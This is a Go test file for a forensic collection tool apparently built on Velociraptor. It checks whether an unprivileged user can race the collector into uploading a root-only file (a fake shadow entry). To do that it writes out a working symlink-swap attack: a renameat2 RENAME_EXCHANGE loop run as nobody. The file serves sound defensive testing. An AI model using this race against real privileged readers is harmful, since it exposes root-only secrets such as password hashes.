package velociraptor_test

// Found by an adversarial review: an unprivileged user swaps a FOLDER on the collected
// path between a real folder and a symbolic link to a root folder that
// holds a same-named, same-sized root-only file, with renameat2
// RENAME_EXCHANGE (atomic, no ctime change on the file itself).

import (
	"crypto/sha256"
	"encoding/hex"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"syscall"
	"testing"
	"unsafe"

	"github.com/velohunt/velohunt/internal/velociraptor"
)

// TestRealCollectSwapFolderHelper is the attacker's loop, run as nobody by
// TestRealCollectFolderExchange.
func TestRealCollectSwapFolderHelper(t *testing.T) {
	a, b := os.Getenv("VH_ADV_SWAP_A"), os.Getenv("VH_ADV_SWAP_B")
	if a == "" {
		t.Skip("helper")
	}
	pa, _ := syscall.BytePtrFromString(a)
	pb, _ := syscall.BytePtrFromString(b)
	const renameExchange = 2
	for {
		_, _, e := syscall.Syscall6(316 /* SYS_RENAMEAT2 amd64 */, uintptr(0xffffff9c), uintptr(unsafe.Pointer(pa)),
			uintptr(0xffffff9c), uintptr(unsafe.Pointer(pb)), renameExchange, 0)
		if e != 0 {
			t.Fatalf("renameat2: %v", e)
		}
	}
}

func TestRealCollectFolderExchange(t *testing.T) {
	c, org, h, dir := realLinuxCollect(t)
	// The root-only file (stands for /etc/shadow): root's folder, 0600 file.
	rootDir, err := os.MkdirTemp("/srv/velohunt-test", "adv-rootonly-")
	if err != nil {
		t.Fatal(err)
	}
	os.Chmod(rootDir, 0o755)
	t.Cleanup(func() { os.RemoveAll(rootDir) })
	secret := []byte("root:$6$SECRETHASHSECRETHASH:19000:0:99999:7:::\n")
	if err := os.WriteFile(filepath.Join(rootDir, "evil.bin"), secret, 0o600); err != nil {
		t.Fatal(err)
	}
	ss := sha256.Sum256(secret)
	secretSum := hex.EncodeToString(ss[:])
	// The attacker's file: same name, same size (stat of the root file
	// is allowed to anyone: its folder is 0755).
	mine := []byte(strings.Repeat("M", len(secret)))
	ms := sha256.Sum256(mine)
	mineSum := hex.EncodeToString(ms[:])
	asNobody(t, fmt.Sprintf(`cd %s && mkdir real && printf '%%s' '%s' > real/evil.bin && ln -s %s lnk`, dir, mine, rootDir))

	binDir, _ := os.MkdirTemp("", "adv-bin")
	os.Chmod(binDir, 0o755)
	t.Cleanup(func() { os.RemoveAll(binDir) })
	bb, _ := os.ReadFile(os.Args[0])
	self := filepath.Join(binDir, "t.bin")
	os.WriteFile(self, bb, 0o755)
	loop := exec.Command(self, "-test.run=^TestRealCollectSwapFolderHelper$")
	loop.Env = append(os.Environ(), "VH_ADV_SWAP_A="+filepath.Join(dir, "real"), "VH_ADV_SWAP_B="+filepath.Join(dir, "lnk"))
	loop.SysProcAttr = &syscall.SysProcAttr{Credential: &syscall.Credential{Uid: 65534, Gid: 65534}}
	if err := loop.Start(); err != nil {
		t.Fatal(err)
	}
	defer func() { loop.Process.Kill(); loop.Wait() }()

	outcomes := map[string]int{}
	for i := 0; i < 25; i++ {
		flow, st, got := collect(t, c, org, h, velociraptor.CollectRequest{Path: filepath.Join(dir, "real", "evil.bin"), MaxBytes: 1 << 20})
		switch {
		case got.Uploaded && got.SHA256 == secretSum:
			t.Errorf("flow %s: Uploaded row for %s carries the ROOT-ONLY file's hash %s (status %+v)", flow, got.Path, got.SHA256, st)
			outcomes["UPLOADED ROOT FILE AS EVIDENCE"]++
		case got.Uploaded && got.SHA256 == mineSum:
			outcomes["uploaded, right hash"]++
		case !got.Uploaded && st.UploadedBytes > 0:
			outcomes["refused after bytes reached the server: "+clipAdv(got.Error)]++
		default:
			outcomes[clipAdv(got.Error)]++
		}
		if outcomes["UPLOADED ROOT FILE AS EVIDENCE"] >= 1 {
			break
		}
	}
	t.Logf("outcomes: %v", outcomes)
}

func clipAdv(s string) string {
	if len(s) > 60 {
		return s[:60]
	}
	return s
}
